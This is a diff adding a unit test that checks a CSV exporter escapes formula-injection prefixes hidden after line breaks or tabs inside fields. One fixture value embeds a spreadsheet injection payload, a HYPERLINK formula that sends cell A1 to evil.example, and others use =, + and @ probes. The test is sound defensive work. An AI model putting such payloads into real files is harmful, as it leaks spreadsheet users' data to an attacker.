@@ -44,6 +44,19 @@ describe('CSV (RFC 4180)', () => {
     expect(csvField('a,=b')).toBe(`"a,'=b"`);
   });
 
+  it('nor a line or cell starting after a line break or tab kept inside a text', () => {
+    const csv = toCsv(
+      ['name', 'host', 'msg'],
+      [{ name: 'pc-1', host: 'kms.example\n=HYPERLINK("http://evil.example/?"&A1,"x")', msg: 'ok\t=1+1' }],
+    );
+    expect(csv).toContain(`"kms.example\n'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(csv).toContain(`"ok\t'=1+1"`);
+    expect(csvField(['a\r\n+1', 'b\r@x'])).toBe(`"a\r\n'+1;b\r'@x"`);
+    for (const line of csv.split(/[\r\n]+/)) {
+      for (const cell of line.split(/[;,\t]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+    }
+  });
+
   it('a header line of the bare column names, one line per row in column order, CRLF after each', () => {
     expect(
       toCsv(
